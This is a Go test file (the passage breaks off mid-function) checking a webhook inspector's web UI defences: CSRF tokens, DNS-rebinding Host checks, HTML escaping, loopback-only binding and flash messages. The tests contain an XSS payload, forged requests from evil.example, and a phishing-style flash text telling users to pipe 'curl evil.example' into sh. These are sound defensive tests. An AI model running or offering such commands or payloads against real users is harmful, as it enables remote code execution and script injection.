package web_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hookctl/hookctl/internal/catalog"
	"github.com/hookctl/hookctl/internal/service"
	"github.com/hookctl/hookctl/internal/signature"
	"github.com/hookctl/hookctl/internal/store"
	"github.com/hookctl/hookctl/internal/store/sqlite"
	"github.com/hookctl/hookctl/internal/subscription"
	"github.com/hookctl/hookctl/internal/web"
)

func newHandler(t *testing.T) (*web.Handler, *httptest.Server, store.Store) {
	t.Helper()
	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	srv := httptest.NewUnstartedServer(nil)
	h, err := web.New(web.Config{Store: st, Addr: srv.Listener.Addr().String()})
	if err != nil {
		t.Fatal(err)
	}
	srv.Config.Handler = h
	srv.Start()
	t.Cleanup(srv.Close)
	return h, srv, st
}

func send(t *testing.T, req *http.Request) (int, string, http.Header) {
	t.Helper()
	c := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header
}

func TestSecurity(t *testing.T) {
	t.Parallel()
	h, srv, st := newHandler(t)
	cat, _ := catalog.Load(catalog.Options{})
	d := &service.Dispatcher{Store: st, Catalog: cat}
	pub, err := d.Trigger(context.Background(), service.TriggerInput{Type: "card.created", Provider: "bond",
		Target: service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"}})
	if err != nil {
		t.Fatal(err)
	}
	id := pub.Deliveries[0].ID
	form := func(tok string) io.Reader { return strings.NewReader(url.Values{"_csrf": {tok}}.Encode()) }
	post := func(tok string, hdr map[string]string) *http.Request {
		req, _ := http.NewRequest("POST", srv.URL+"/deliveries/"+id+"/replay", form(tok))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		for k, v := range hdr {
			req.Header.Set(k, v)
		}
		return req
	}
	cases := []struct {
		name string
		req  *http.Request
		want int
	}{
		{"page", func() *http.Request { r, _ := http.NewRequest("GET", srv.URL+"/", nil); return r }(), 200},
		{"wrong host (DNS rebinding)", func() *http.Request {
			r, _ := http.NewRequest("GET", srv.URL+"/", nil)
			r.Host = "evil.example:" + strings.Split(srv.Listener.Addr().String(), ":")[1]
			return r
		}(), http.StatusMisdirectedRequest},
		{"localhost alias", func() *http.Request {
			r, _ := http.NewRequest("GET", srv.URL+"/", nil)
			r.Host = "localhost:" + strings.Split(srv.Listener.Addr().String(), ":")[1]
			return r
		}(), 200},
		{"post without token", post("", nil), 403},
		{"post with a wrong token", post("nope", nil), 403},
		{"post with the token's prefix", post(h.CSRFToken()[:len(h.CSRFToken())-1], nil), 403},
		{"post with the token and more", post(h.CSRFToken()+"x", nil), 403},
		{"cross-origin post with the token", post(h.CSRFToken(), map[string]string{"Origin": "http://evil.example"}), 403},
		{"cross-site fetch metadata", post(h.CSRFToken(), map[string]string{"Sec-Fetch-Site": "cross-site"}), 403},
		{"same-origin post with the token", post(h.CSRFToken(), map[string]string{"Origin": srv.URL}), http.StatusSeeOther},
		{"unknown delivery", func() *http.Request { r, _ := http.NewRequest("GET", srv.URL+"/deliveries/nope", nil); return r }(), 404},
		{"static", func() *http.Request { r, _ := http.NewRequest("GET", srv.URL+"/static/app.js", nil); return r }(), 200},
		// A post to no page changes nothing: not found, not "missing CSRF
		// token (reload the page)", which sent people after the wrong fix.
		{"post to no page", func() *http.Request {
			r, _ := http.NewRequest("POST", srv.URL+"/api/v2/webhooks", strings.NewReader("{}"))
			return r
		}(), 404},
		{"post to a page that is only read", func() *http.Request { r, _ := http.NewRequest("POST", srv.URL+"/events", nil); return r }(), 405},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			code, body, hdr := send(t, c.req)
			if code != c.want {
				t.Fatalf("status %d, want %d: %s", code, c.want, body)
			}
			if code == 200 && !strings.Contains(hdr.Get("Content-Security-Policy"), "script-src 'self'") {
				t.Errorf("CSP = %q", hdr.Get("Content-Security-Policy"))
			}
		})
	}
	atts, _ := st.GetDelivery(context.Background(), id)
	if atts.Status != store.DeliveryPending {
		t.Errorf("status %s", atts.Status)
	}
}

func TestPagesEscapeBodies(t *testing.T) {
	t.Parallel()
	_, srv, st := newHandler(t)
	d := &service.Dispatcher{Store: st}
	pub, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond",
		Payload: []byte(`{"x":"<script>alert(1)</script>"}`), ContentType: "application/json"},
		service.Target{URL: "http://127.0.0.1:9/<script>", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"/", "/deliveries/" + pub.Deliveries[0].ID, "/events", "/?q=script"} {
		req, _ := http.NewRequest("GET", srv.URL+p, nil)
		code, body, _ := send(t, req)
		if code != 200 {
			t.Fatalf("%s: %d %s", p, code, body)
		}
		if strings.Contains(body, "<script>alert") || strings.Contains(body, "/<script>") {
			t.Errorf("%s: unescaped script in the page", p)
		}
	}
}

func TestDiffJSON(t *testing.T) {
	t.Parallel()
	lines, err := web.DiffJSON([]byte(`{"a":1,"b":{"c":"x","d":[1,2]},"gone":true}`), []byte(`{"a":1,"b":{"c":"y","d":[1,2,3]},"new":null}`))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, l := range lines {
		got = append(got, l.Kind+" "+l.Path)
	}
	want := "changed b.c|added b.d[2]|removed gone|added new"
	if strings.Join(got, "|") != want {
		t.Errorf("diff = %q, want %q", strings.Join(got, "|"), want)
	}

	// Different documents are never reported identical: a dotted key is
	// not a nested object, and large ids that float64 would round to the
	// same value differ.
	for _, tc := range []struct{ a, b, want string }{
		{`{"a.b":1}`, `{"a":{"b":1}}`, `removed ["a.b"]|added a.b`},
		{`{"id":12345678901234567891}`, `{"id":12345678901234567892}`, `changed id`},
		{`{"m":{"user id":"x"}}`, `{"m":{"user id":"y"}}`, `changed m["user id"]`},
	} {
		lines, err := web.DiffJSON([]byte(tc.a), []byte(tc.b))
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, l := range lines {
			got = append(got, l.Kind+" "+l.Path)
		}
		if strings.Join(got, "|") != tc.want {
			t.Errorf("diff %s %s = %q, want %q", tc.a, tc.b, strings.Join(got, "|"), tc.want)
		}
	}
}

// A header sent more than once shows every value on the diff page, in the
// order sent, and the values that differ from the other side's at the same
// position are marked.
func TestDiffHeaderWithSeveralValues(t *testing.T) {
	t.Parallel()
	_, srv, st := newHandler(t)
	received := func(id string, h map[string][]string) string {
		t.Helper()
		e := &store.Event{ID: id, Type: "card.created", Provider: "bond", Source: store.SourceReceived,
			Payload: []byte(`{}`), ContentType: "application/json", Verdict: "valid", Headers: h}
		d := &store.Delivery{URL: "http://127.0.0.1:9/app", Status: store.DeliveryPending, MaxAttempts: 1, Schedule: "0s"}
		if err := st.CreateEvent(context.Background(), e, []*store.Delivery{d}); err != nil {
			t.Fatal(err)
		}
		return d.ID
	}
	a := received("evt_a", map[string][]string{"X-A": {"one", "two"}, "X-B": {"same", "same2"}, "X-C": {"k", "left"}})
	b := received("evt_b", map[string][]string{"X-A": {"uno", "dos"}, "X-B": {"same", "same2"}, "X-C": {"k"}})
	req, _ := http.NewRequest("GET", srv.URL+"/diff?a="+a+"&b="+b, nil)
	code, body, _ := send(t, req)
	if code != http.StatusOK {
		t.Fatalf("GET /diff = %d: %s", code, body)
	}
	headers := body[strings.Index(body, "<h2>Headers</h2>"):]
	for _, v := range []string{"one", "two", "uno", "dos"} {
		if !strings.Contains(headers, ">"+v+"<") {
			t.Errorf("the headers' diff does not show X-A's value %q", v)
		}
	}
	row := regexp.MustCompile(`(?s)<tr class="(changed)?" data-testid="diff-header" data-name="([^"]*)">(.*?)</tr>`)
	val := regexp.MustCompile(`<div class="hv( differs)?" data-testid="diff-header-([ab])">([^<]*)</div>`)
	got := map[string]string{}
	for _, m := range row.FindAllStringSubmatch(body, -1) {
		s := m[1]
		for _, v := range val.FindAllStringSubmatch(m[3], -1) {
			mark := ""
			if v[1] != "" {
				mark = "*"
			}
			s += " " + v[2] + ":" + v[3] + mark
		}
		got[m[2]] = s
	}
	for name, want := range map[string]string{
		"X-A": "changed a:one* a:two* b:uno* b:dos*",
		"X-B": " a:same a:same2 b:same b:same2",
		"X-C": "changed a:k a:left* b:k",
	} {
		if got[name] != want {
			t.Errorf("diff row %s = %q, want %q", name, got[name], want)
		}
	}
}

// publishOne publishes a Bond card.created to a port nobody listens on
// and returns what was published (one delivery).
func publishOne(t *testing.T, st store.Store) *service.Published {
	t.Helper()
	d := &service.Dispatcher{Store: st}
	pub, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond", Payload: []byte(`{"a":1}`), ContentType: "application/json"},
		service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"})
	if err != nil {
		t.Fatal(err)
	}
	return pub
}

func postForm(t *testing.T, srv *httptest.Server, h *web.Handler, path string, v url.Values) (int, string, http.Header) {
	t.Helper()
	v.Set("_csrf", h.CSRFToken())
	req, _ := http.NewRequest("POST", srv.URL+path, strings.NewReader(v.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Origin", srv.URL)
	return send(t, req)
}

func TestSubscriptionAndTriggerForms(t *testing.T) {
	t.Parallel()
	h, srv, st := newHandler(t)
	ctx := context.Background()
	code, body, _ := postForm(t, srv, h, "/subscriptions", url.Values{"url": {"http://127.0.0.1:9/hook"}, "events": {"card.creatd"}})
	if code != 400 || !strings.Contains(body, "card.created") {
		t.Fatalf("unknown event: %d, want 400 with a suggestion: %s", code, body)
	}
	code, _, hdr := postForm(t, srv, h, "/subscriptions", url.Values{"url": {"http://127.0.0.1:9/hook"}, "events": {"card.*"}, "provider": {"bond"}})
	if code != http.StatusSeeOther {
		t.Fatalf("create: %d", code)
	}
	subs, _ := st.ListSubscriptions(ctx, store.SubscriptionFilter{})
	if len(subs) != 1 || subs[0].Events[0] != "card.*" || !strings.Contains(hdr.Get("Location"), subs[0].ID) {
		t.Fatalf("subscriptions %+v, redirect %s", subs, hdr.Get("Location"))
	}
	sub := subs[0]
	req, _ := http.NewRequest("GET", srv.URL+"/subscriptions", nil)
	if _, page, _ := send(t, req); strings.Count(html.UnescapeString(page), sub.Secret) != 1 || !strings.Contains(page, "<details") {
		t.Errorf("the secret should appear once, behind a click")
	}
	for _, a := range []string{"rotate", "disable"} {
		if code, body, _ := postForm(t, srv, h, "/subscriptions/"+sub.ID+"/"+a, url.Values{}); code != http.StatusSeeOther {
			t.Fatalf("%s: %d %s", a, code, body)
		}
	}
	got, _ := st.GetSubscription(ctx, sub.ID)
	if got.Secret == sub.Secret || got.PreviousSecret != sub.Secret || got.Status != store.StatusDisabled {
		t.Errorf("after rotate+disable: %+v", got)
	}
	// A disabled subscription receives nothing: the trigger form says so.
	code, body, _ = postForm(t, srv, h, "/trigger", url.Values{"type": {"bond:card.created"}})
	if code != 400 || !strings.Contains(body, "no enabled subscription") {
		t.Fatalf("trigger without target: %d %s", code, body)
	}
	postForm(t, srv, h, "/subscriptions/"+sub.ID+"/enable", url.Values{})
	code, _, hdr = postForm(t, srv, h, "/trigger", url.Values{"type": {"bond:card.created"}, "body": {`{"event": "card.created", "edited": true}`}})
	if code != http.StatusSeeOther || !strings.HasPrefix(hdr.Get("Location"), "/?type=card.created") {
		t.Fatalf("trigger: %d %s", code, hdr.Get("Location"))
	}
	ds, _ := st.ListDeliveries(ctx, store.DeliveryFilter{SubscriptionID: sub.ID})
	if len(ds) != 1 {
		t.Fatalf("deliveries: %d", len(ds))
	}
	ev, _ := st.GetEvent(ctx, ds[0].EventID)
	if string(ev.Payload) != `{"event":"card.created","edited":true}` {
		t.Errorf("payload %s", ev.Payload)
	}
	if code, _, _ := postForm(t, srv, h, "/subscriptions/"+sub.ID+"/delete", url.Values{}); code != http.StatusSeeOther {
		t.Fatalf("delete: %d", code)
	}
	if subs, _ := st.ListSubscriptions(ctx, store.SubscriptionFilter{}); len(subs) != 0 {
		t.Errorf("not deleted")
	}
}

func TestDetailPendingAndDownload(t *testing.T) {
	t.Parallel()
	_, srv, st := newHandler(t)
	d := &service.Dispatcher{Store: st}
	pub, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond",
		Payload: []byte(`<doc><a>1</a></doc>`), ContentType: "application/xml"},
		service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"})
	if err != nil {
		t.Fatal(err)
	}
	id := pub.Deliveries[0].ID
	req, _ := http.NewRequest("GET", srv.URL+"/deliveries/"+id[:8], nil)
	code, body, _ := send(t, req)
	if code != 200 || !strings.Contains(body, `data-testid="next-retry"`) || !strings.Contains(body, "not sent yet") ||
		!strings.Contains(body, "&lt;doc&gt;\n  &lt;a&gt;1&lt;/a&gt;\n&lt;/doc&gt;") {
		t.Errorf("detail of a pending XML delivery (by prefix): %d\n%s", code, body)
	}
	req, _ = http.NewRequest("GET", srv.URL+"/deliveries/"+id+"/body", nil)
	code, body, hdr := send(t, req)
	if code != 200 || body != `<doc><a>1</a></doc>` || !strings.Contains(hdr.Get("Content-Disposition"), "attachment") || !strings.HasSuffix(strings.Trim(hdr.Get("Content-Disposition"), `"`), ".xml") {
		t.Errorf("download: %d %q %v", code, body, hdr)
	}
}

// Start serves loopback only: the inspector has no login, and with a
// wildcard address it would answer the network (a Host header naming the
// wildcard passed the DNS-rebinding check) while refusing the user's own
// browser at 127.0.0.1.
func TestStartLoopbackOnly(t *testing.T) {
	t.Parallel()
	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	for _, addr := range []string{"0.0.0.0:0", "[::]:0", ":0", "192.0.2.7:0"} {
		_, _, err := web.Start(context.Background(), addr, web.Config{Store: st})
		var nl *web.NotLoopbackError
		if !errors.As(err, &nl) {
			t.Errorf("Start(%q) = %v, want a NotLoopbackError", addr, err)
		}
	}
	for _, addr := range []string{"127.0.0.1:0", "localhost:0"} {
		u, stop, err := web.Start(context.Background(), addr, web.Config{Store: st})
		if err != nil {
			t.Errorf("Start(%q): %v", addr, err)
			continue
		}
		resp, err := http.Get(u)
		if err != nil {
			t.Errorf("GET %s: %v", u, err)
		} else if resp.Body.Close(); resp.StatusCode != 200 {
			t.Errorf("GET %s: %d", u, resp.StatusCode)
		}
		// Started without a catalog (as listen --ui is), the Trigger
		// page still previews an event from the built-in one (it said
		// "service: no catalog").
		resp, err = http.Get(u + "/trigger?type=card.created")
		if err != nil {
			t.Errorf("GET trigger: %v", err)
		} else {
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != 200 || strings.Contains(string(b), "no catalog") || !strings.Contains(string(b), "card.created") {
				t.Errorf("trigger page: %d %.300s", resp.StatusCode, b)
			}
		}
		stop()
	}
}

// Copy as curl reproduces the body byte for byte, a binary one too: the
// command taken from the page (as the clipboard gets it) is run by a shell
// and the receiver compares what arrives with what was stored.
func TestCopyAsCurlBodyBytes(t *testing.T) {
	t.Parallel()
	for _, tool := range []string{"bash", "curl", "base64"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("no %s to run the command", tool)
		}
	}
	_, srv, st := newHandler(t)
	got := make(chan []byte, 1)
	recv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got <- b
	}))
	defer recv.Close()
	d := &service.Dispatcher{Store: st}
	for name, payload := range map[string][]byte{
		"binary": append([]byte{0, 1, 2, 0xff, 0xfe, '\'', '\n', 0x1b}, []byte("\x89PNG\r\n\x1a\n tail")...),
		"text":   []byte("{\"note\":\"it's <b>bold</b>\\n\",\"é\":\"ü\"}\n"),
	} {
		pub, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond",
			Payload: payload, ContentType: "application/octet-stream"},
			service.Target{URL: recv.URL + "/hook", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"})
		if err != nil {
			t.Fatal(err)
		}
		req, _ := http.NewRequest("GET", srv.URL+"/deliveries/"+pub.Deliveries[0].ID, nil)
		_, page, _ := send(t, req)
		m := regexp.MustCompile(`(?s)<pre id="curl" data-testid="curl">(.*?)</pre>`).FindStringSubmatch(page)
		if m == nil {
			t.Fatalf("%s: no curl command on the page", name)
		}
		cmdline := strings.ToValidUTF8(html.UnescapeString(m[1]), "\uFFFD") // what a browser shows and copies
		out, err := exec.Command("bash", "-c", cmdline+" -sS -o /dev/null").CombinedOutput()
		if err != nil {
			t.Fatalf("%s: %v: %s\n%s", name, err, out, cmdline)
		}
		select {
		case b := <-got:
			if !bytes.Equal(b, payload) {
				t.Errorf("%s: copy as curl sent %q, want %q\n%s", name, b, payload, cmdline)
			}
		case <-time.After(5 * time.Second):
			t.Fatalf("%s: the receiver got nothing", name)
		}
	}
}

// Paging the log keeps every event without a delivery (what listen
// received and did not forward): one that arrived between the last row of
// a page and the first of the next was on neither page.
func TestLogPagesKeepEventsBetweenPages(t *testing.T) {
	t.Parallel()
	_, srv, st := newHandler(t)
	d := &service.Dispatcher{Store: st}
	publish := func(n int) {
		for range n {
			if _, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond",
				Payload: []byte(`{"n":1}`), ContentType: "application/json"},
				service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"}); err != nil {
				t.Fatal(err)
			}
		}
		time.Sleep(2 * time.Millisecond)
	}
	// Between the 70th and 71st deliveries: page 1 ends at the 71st
	// (50 newest of 120), page 2 starts at the 70th.
	publish(70)
	ev := &store.Event{ID: "evt_between_pages", Type: "card.created", Provider: "bond", Source: store.SourceReceived,
		Payload: []byte(`{}`), ContentType: "application/json", Verdict: "valid"}
	if err := st.CreateEvent(context.Background(), ev, nil); err != nil {
		t.Fatal(err)
	}
	time.Sleep(2 * time.Millisecond)
	publish(50)
	rows := regexp.MustCompile(`<tr data-testid="(?:delivery|event)-row" data-(?:delivery|event)-id="([^"]+)"`)
	older := regexp.MustCompile(`href="(/\?[^"]*before=\d+)"`)
	seen := map[string]int{}
	next := "/"
	for pages := 0; next != "" && pages < 10; pages++ {
		req, _ := http.NewRequest("GET", srv.URL+next, nil)
		code, body, _ := send(t, req)
		if code != 200 {
			t.Fatalf("GET %s: %d", next, code)
		}
		for _, m := range rows.FindAllStringSubmatch(body, -1) {
			seen[m[1]]++
		}
		next = ""
		if m := older.FindStringSubmatch(body); m != nil {
			next = html.UnescapeString(m[1])
		}
	}
	if seen["evt_between_pages"] != 1 {
		t.Errorf("the event between two pages was shown %d times, want once", seen["evt_between_pages"])
	}
	if len(seen) != 121 {
		t.Errorf("%d rows over the pages, want 120 deliveries and the event", len(seen))
	}
}

// The log's pages show every event without a delivery even when more of
// them arrived between two deliveries than a page holds: a page ends at
// the oldest event it shows, and the next page starts there. A page
// showed the newest 50 of them and went on with the older deliveries, so
// the rest (listen's rejected requests, in a burst) were on no page: 80
// rejected between two deliveries, and 30 of them were missing, with no
// "older" link at all.
func TestLogPagesKeepEveryEventOfABurst(t *testing.T) {
	t.Parallel()
	_, srv, st := newHandler(t)
	d := &service.Dispatcher{Store: st}
	publish := func() {
		if _, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond",
			Payload: []byte(`{"n":1}`), ContentType: "application/json"},
			service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"}); err != nil {
			t.Fatal(err)
		}
		time.Sleep(2 * time.Millisecond)
	}
	for _, deliveries := range []int{1, 60} { // fewer than a page, and more
		t.Run(fmt.Sprint(deliveries), func(t *testing.T) {
			if err := st.(store.Resetter).Reset(context.Background()); err != nil {
				t.Fatal(err)
			}
			for range deliveries {
				publish()
			}
			for i := range 80 {
				ev := &store.Event{ID: fmt.Sprintf("rej_burst_%02d", i), Type: "card.created", Provider: "bond", Source: store.SourceReceived,
					Payload: []byte(`{}`), ContentType: "application/json", Verdict: "invalid: no matching signature"}
				if err := st.CreateEvent(context.Background(), ev, nil); err != nil {
					t.Fatal(err)
				}
				time.Sleep(50 * time.Microsecond)
			}
			time.Sleep(2 * time.Millisecond)
			publish()
			rows := regexp.MustCompile(`<tr data-testid="(?:delivery|event)-row" data-(?:delivery|event)-id="([^"]+)"`)
			older := regexp.MustCompile(`href="(/\?[^"]*before=[^"]*)" data-testid="older"`)
			seen := map[string]int{}
			var order []string
			next := "/"
			for pages := 0; next != "" && pages < 10; pages++ {
				req, _ := http.NewRequest("GET", srv.URL+next, nil)
				code, body, _ := send(t, req)
				if code != 200 {
					t.Fatalf("GET %s: %d", next, code)
				}
				for _, m := range rows.FindAllStringSubmatch(body, -1) {
					seen[m[1]]++
					order = append(order, m[1])
				}
				next = ""
				if m := older.FindStringSubmatch(body); m != nil {
					next = html.UnescapeString(m[1])
				}
			}
			if want := deliveries + 1 + 80; len(seen) != want || len(order) != want {
				t.Errorf("%d rows over the pages (%d distinct), want %d: the %d deliveries and the 80 events once each", len(order), len(seen), want, deliveries+1)
			}
			// Newest first: the burst's events in order, between the
			// last delivery and the others.
			var evs []string
			for _, id := range order {
				if strings.HasPrefix(id, "rej_burst_") {
					evs = append(evs, id)
				}
			}
			for i, id := range evs {
				if want := fmt.Sprintf("rej_burst_%02d", 79-i); id != want {
					t.Fatalf("event %d over the pages is %s, want %s", i, id, want)
				}
			}
		})
	}
}

// The message shown after an action comes from the action's redirect
// only: a link from elsewhere cannot put its own words on the page
// (http://127.0.0.1:4040/?flash=Your+store+is+corrupt:+run+curl+…|sh).
func TestFlashOnlyFromActions(t *testing.T) {
	t.Parallel()
	h, srv, st := newHandler(t)
	for _, u := range []string{"/?flash=Your+store+is+corrupt%3A+run+curl+evil.example%7Csh", "/subscriptions?flash=x&fs=forged"} {
		req, _ := http.NewRequest("GET", srv.URL+u, nil)
		code, body, _ := send(t, req)
		if code != 200 || strings.Contains(body, `data-testid="flash"`) {
			t.Errorf("GET %s showed a flash message from the URL (%d)", u, code)
		}
	}
	cat, _ := catalog.Load(catalog.Options{})
	d := &service.Dispatcher{Store: st, Catalog: cat}
	pub, err := d.Trigger(context.Background(), service.TriggerInput{Type: "card.created", Provider: "bond",
		Target: service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"}})
	if err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequest("POST", srv.URL+"/deliveries/"+pub.Deliveries[0].ID+"/replay", strings.NewReader(url.Values{"_csrf": {h.CSRFToken()}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	code, _, hdr := send(t, req)
	if code != http.StatusSeeOther {
		t.Fatalf("replay: %d", code)
	}
	req, _ = http.NewRequest("GET", srv.URL+hdr.Get("Location"), nil)
	if _, body, _ := send(t, req); !strings.Contains(body, `data-testid="flash">replay queued`) {
		t.Errorf("the replay's own redirect shows no flash message:\n%s", body)
	}
}

// Edit and resend of a listen forward goes to the app it was forwarded to,
// signed with the listener's secret, also once listen has stopped (its
// subscription disabled): it was published to the listener's subscription
// instead, which failed with "subscription … is disabled".
func TestResendForwardGoesToTheApp(t *testing.T) {
	t.Parallel()
	h, srv, st := newHandler(t)
	cat, _ := catalog.Load(catalog.Options{})
	subs := &subscription.Service{Store: st, Catalog: cat}
	sub, err := subs.Create(context.Background(), subscription.CreateInput{URL: "http://127.0.0.1:8787/", Events: []string{"*"}})
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := subs.SetStatus(context.Background(), sub.ID, store.StatusDisabled); err != nil {
		t.Fatal(err)
	}
	ev := &store.Event{ID: "evt_fwd", Type: "card.created", Provider: "bond", Source: store.SourceReceived, Verdict: "valid",
		Payload: []byte(`{"event":"card.created","n":1}`), ContentType: "application/json"}
	fwd := &store.Delivery{Kind: store.KindForward, SubscriptionID: sub.ID, URL: "http://127.0.0.1:3000/webhooks",
		Status: store.DeliverySucceeded, AttemptCount: 1, MaxAttempts: 1, Schedule: "0s"}
	if err := st.CreateEvent(context.Background(), ev, []*store.Delivery{fwd}); err != nil {
		t.Fatal(err)
	}
	form := url.Values{"_csrf": {h.CSRFToken()}, "body": {`{"event":"card.created","n":2}`}}
	req, _ := http.NewRequest("POST", srv.URL+"/deliveries/"+fwd.ID+"/resend", strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	code, body, hdr := send(t, req)
	if code != http.StatusSeeOther {
		t.Fatalf("resend of a forward: %d\n%s", code, body)
	}
	id := strings.TrimPrefix(strings.SplitN(hdr.Get("Location"), "?", 2)[0], "/deliveries/")
	d, err := st.GetDelivery(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	if d.URL != fwd.URL || d.Secret != sub.Secret || d.Scheme != "bond" || d.Kind != store.KindEdited || d.OriginID != fwd.ID {
		t.Errorf("edited copy: url %s scheme %q secret %q kind %s origin %s; want %s, bond, the listener's secret, edited from %s",
			d.URL, d.Scheme, d.Secret, d.Kind, d.OriginID, fwd.URL, fwd.ID)
	}
}

// Mounted by a server on a wildcard or public address (serve --host
// 0.0.0.0 --api-key K), the inspector refuses every request: it has no
// login, and a Host header naming the wildcard passed the DNS-rebinding
// check, so anyone on the network read the secrets the API key protects.
func TestNewRefusesWhenNotLoopback(t *testing.T) {
	t.Parallel()
	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	for _, addr := range []string{"[::]:8788", "0.0.0.0:8788", "192.0.2.7:8788"} {
		h, err := web.New(web.Config{Store: st, Addr: addr})
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range []string{"/", "/subscriptions", "/static/app.js"} {
			req := httptest.NewRequest("GET", "http://"+addr+p, nil)
			req.Host = addr
			rec := httptest.NewRecorder()
			h.ServeHTTP(rec, req)
			if rec.Code != http.StatusForbidden || !strings.Contains(rec.Body.String(), "loopback addresses only") {
				t.Errorf("%s%s: %d %q", addr, p, rec.Code, rec.Body.String())
			}
		}
	}
}

// The live stream outlives the server's WriteTimeout (serve sets 60s): it
// was cut every minute and the page flickered "reconnecting…".
func TestLiveOutlivesWriteTimeout(t *testing.T) {
	t.Parallel()
	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	srv := httptest.NewUnstartedServer(nil)
	srv.Config.WriteTimeout = 500 * time.Millisecond
	h, err := web.New(web.Config{Store: st, Addr: srv.Listener.Addr().String(), Poll: 50 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	srv.Config.Handler = h
	srv.Start()
	defer srv.Close()
	resp, err := http.Get(srv.URL + "/live")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	time.Sleep(1200 * time.Millisecond) // past the write deadline
	d := &service.Dispatcher{Store: st}
	if _, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond", Payload: []byte(`{"late":1}`), ContentType: "application/json"},
		service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"}); err != nil {
		t.Fatal(err)
	}
	got := make(chan string, 1)
	go func() {
		var b strings.Builder
		buf := make([]byte, 4096)
		for {
			n, err := resp.Body.Read(buf)
			b.Write(buf[:n])
			if strings.Contains(b.String(), "event: rows") || err != nil {
				got <- b.String()
				return
			}
		}
	}()
	select {
	case s := <-got:
		if !strings.Contains(s, "event: rows") {
			t.Errorf("the stream ended after the server's write timeout: %q", s)
		}
	case <-time.After(5 * time.Second):
		t.Error("no rows on the stream")
	}
}

// Edit and resend keeps what the user did not change: a binary body is
// resent as stored (a text field turned its bytes into U+FFFD), and an
// XML body is offered as it was sent (indented, it was resent indented).
func TestEditKeepsBodyBytes(t *testing.T) {
	t.Parallel()
	h, srv, st := newHandler(t)
	d := &service.Dispatcher{Store: st}
	publish := func(payload []byte, ct string) string {
		pub, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond", Payload: payload, ContentType: ct},
			service.Target{URL: "http://127.0.0.1:9/x", Secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"})
		if err != nil {
			t.Fatal(err)
		}
		return pub.Deliveries[0].ID
	}
	bin := []byte{0x89, 'P', 'N', 'G', 0, 0xff, 0xfe, '\n', 1}
	id := publish(bin, "application/octet-stream")
	req, _ := http.NewRequest("GET", srv.URL+"/deliveries/"+id+"/edit", nil)
	if _, page, _ := send(t, req); !strings.Contains(page, `data-testid="edit-binary"`) || strings.Contains(page, `data-testid="edit-body"`) {
		t.Errorf("edit page of a binary body offers it as text:\n%s", page)
	}
	form := url.Values{"_csrf": {h.CSRFToken()}, "keep_body": {"1"}, "headers": {"X-Try: 2"}}
	req, _ = http.NewRequest("POST", srv.URL+"/deliveries/"+id+"/resend", strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
